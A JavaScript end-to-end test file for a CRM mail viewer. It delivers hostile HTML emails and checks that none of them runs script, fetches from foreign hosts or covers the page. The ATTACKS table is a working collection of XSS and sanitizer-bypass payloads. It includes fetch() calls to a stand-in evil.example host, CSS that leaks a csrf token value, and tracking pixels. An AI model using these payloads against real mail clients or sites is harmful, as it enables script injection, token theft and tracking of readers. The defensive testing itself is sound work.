// Hostile mail in a real browser: nothing of it runs, and nothing is fetched until the reader asks.
// Sources: OWASP's XSS filter evasion cheat sheet; bypasses that DOMPurify, ammonia and others published.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { letter, open, start, until } from "./harness.mjs";

const E = "https://evil.example/";
const ATTACKS = {
  script: `<script>top.hit=1;fetch('${E}script')</script>`,
  "script in a frame": `<iframe src="javascript:top.hit=1"></iframe><iframe srcdoc="<script>top.hit=1</script>"></iframe>`,
  "event handlers": `<img src=x onerror="top.hit=1"><body onload="top.hit=1"><details open ontoggle="top.hit=1">x</details>`,
  "event handlers, odd spacing": `<img/src=x/onerror=top.hit=1><a\u000conmouseover=top.hit=1>x</a><b/onclick\n=\ntop.hit=1 autofocus>x</b>`,
  "javascript links": `<a href="javascript:top.hit=1">a</a><a href="jav&#x09;ascript:top.hit=1">b</a><a href=" &#14; javascript:top.hit=1">c</a>`,
  "data links": `<a href="data:text/html,<script>top.hit=1</script>">a</a><a href="vbscript:x">b</a>`,
  svg: `<svg onload="top.hit=1"><script>top.hit=1</script><animate onbegin="top.hit=1" attributeName=x></svg>`,
  "svg use and image": `<svg><use href="${E}use#x"/><image href="${E}image"/><foreignObject><img src="${E}f"></foreignObject></svg>`,
  math: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=top.hit=1&gt;">`,
  "math and svg namespaces": `<math><mi><svg><style><img src=x onerror="top.hit=1"></style></svg></mi></math><form><math><mtext></form><form><mglyph><style></math><img src onerror=top.hit=1>`,
  "noscript and templates": `<noscript><p title="</noscript><img src=x onerror=top.hit=1>"></noscript><template><img src=x onerror=top.hit=1></template>`,
  "unclosed and nested": `<scr<script>ipt>top.hit=1</scr</script>ipt><img src="x" "onerror="top.hit=1"`,
  "comments and CDATA": `<!--><img src=x onerror=top.hit=1>--><![CDATA[<img src=x onerror=top.hit=1>]]><!--[if IE]><script>top.hit=1</script><![endif]-->`,
  "xmp and textarea": `<xmp><p title="</xmp><img src=x onerror=top.hit=1>"></xmp><textarea></textarea><img src=x onerror=top.hit=1></textarea>`,
  forms: `<form action="${E}form"><input name=a autofocus onfocus=top.hit=1><button formaction="${E}button">x</button></form>`,
  "meta refresh and base": `<meta http-equiv="refresh" content="0;url=${E}meta"><base href="${E}"><a href="relative">x</a>`,
  "tracking pixels": `<img src="${E}pixel.gif" width=1 height=1><img srcset="${E}srcset 1x"><picture><source srcset="${E}source"><img></picture>`,
  "tracking by other elements": `<video src="${E}video" poster="${E}poster"></video><audio src="${E}audio" autoplay></audio><embed src="${E}embed"><object data="${E}object"></object><input type=image src="${E}input"><link rel=stylesheet href="${E}link"><link rel=prefetch href="${E}prefetch"><body background="${E}body"><table background="${E}table"><tr><td background="${E}td">x</td></tr></table>`,
  "CSS that fetches": `<style>@import url(${E}import);body{background:url(${E}css)}@font-face{font-family:x;src:url(${E}font)}</style><p style="background:url('${E}style')">x</p><p style="background:u\\72l(${E}escaped)">x</p><p style="list-style-image:image-set('${E}set' 1x)">x</p>`,
  "CSS that reads": `<style>input[name=csrf][value^=a]{background:url(${E}a)}a[href^="/"]{background:url(${E}b)}</style>`,
  "CSS that covers": `<div style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:9999;background:#fff">covered</div>`,
  "data URLs": `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.hit=1'><image href='${E}nested'/></svg>"><iframe src="data:text/html,<script>top.hit=1</script>"></iframe>`,
  "DOM clobbering": `<form id=document><input name=cookie></form><a id=location href="${E}"></a><img name=body><img id=formats>`,
  "ping and targets": `<a href="${E}" ping="${E}ping" target="_top">x</a><a href="#" target="_self" download>x</a>`,
};

let world;
let tab;
before(async () => {
  world = await start();
  tab = await open(world);
  for (const [name, html] of Object.entries(ATTACKS)) {
    await world.sim.deliver(letter({ from: "Mallory <mallory@evil.example>", subject: `<b>${name}</b>`, html: `<p>${name}</p>${html}` }));
  }
  await until("all of it is in the CRM", async () => {
    await tab.page.goto("/");
    const link = tab.page.locator(".list a", { hasText: "Mallory" });
    if (!(await link.count())) return false;
    await link.click();
    return (await tab.page.locator("article").count()) === Object.keys(ATTACKS).length;
  }, 60_000);
});
after(async () => {
  await world?.stop();
});

test("t07_no_hostile_mail_runs_fetches_or_covers_anything", async () => {
  const { page, seen } = tab;
  // Frames load when they are near: the whole page is looked at.
  for (const frame of await page.locator("iframe").all()) await frame.scrollIntoViewIfNeeded();
  await until("all frames are loaded", async () => {
    const frames = page.frames().slice(1);
    const bodies = await Promise.all(frames.map((frame) => frame.locator("body > *").count().catch(() => 0)));
    return bodies.every((count) => count > 0);
  });
  await page.waitForTimeout(1_000);
  assert.equal(await page.evaluate(() => globalThis.hit), undefined);
  assert.deepEqual(seen.foreign, []);
  assert.deepEqual(seen.dialogs, []);
  assert.equal(new URL(page.url()).origin, world.origin);

  const active = "script,style,link,meta[http-equiv],base,iframe,frame,object,embed,form,input,button,textarea,video,audio,source,template";
  const markup = "svg,math,foreignObject";
  for (const frame of page.frames().slice(1)) {
    const found = await frame.evaluate(([active, markup]) => {
      const body = document.body;
      const odd = [...body.querySelectorAll(`${active},${markup}`)].map((element) => element.outerHTML);
      for (const element of body.querySelectorAll("*")) {
        for (const { name, value } of element.attributes) {
          const url = ["href", "src", "srcset", "background", "action", "ping", "poster"].includes(name);
          const bad = name.startsWith("on") || (url && /^\s*(javascript|vbscript|data:text)/i.test(value));
          const fetches = ["src", "srcset", "background", "ping", "poster"].includes(name) && /evil\.example/.test(value);
          const covers = name === "style" && /position|url\(|image-set/i.test(value);
          if (bad || fetches || covers) odd.push(element.outerHTML);
        }
      }
      return odd;
    }, [active, markup]);
    assert.deepEqual(found, [], frame.url());
  }
});

test("t07_subjects_and_names_are_text", async () => {
  assert.equal(await tab.page.locator("h1 b, h2 b, .subject b, .snippet b").count(), 0);
  assert.ok(await tab.page.getByText("<b>script</b>", { exact: true }).first().isVisible());
});

test("t07_links_open_elsewhere_without_a_word_of_where_they_were", async () => {
  for (const frame of tab.page.frames().slice(1)) {
    for (const link of await frame.locator("a[href]").all()) {
      const [target, rel, href] = await link.evaluate((a) => [a.target, a.rel, a.getAttribute("href")]);
      if (href.startsWith("#")) continue;
      assert.ok(target === "_blank" && /noopener/.test(rel) && /noreferrer/.test(rel), `${href} ${target} ${rel}`);
    }
  }
});

test("t07_remote_images_are_fetched_when_the_reader_asks_and_no_sooner", async () => {
  const { page, seen } = tab;
  const article = page.locator("article", { hasText: "<b>tracking pixels</b>" });
  await article.getByText("Show them").click();
  await until("the image is asked for", () => seen.foreign.some((url) => url.includes("pixel.gif")));
  assert.deepEqual(seen.foreign.filter((url) => !/pixel\.gif/.test(url)), []);
  assert.equal(await page.evaluate(() => globalThis.hit), undefined);
});
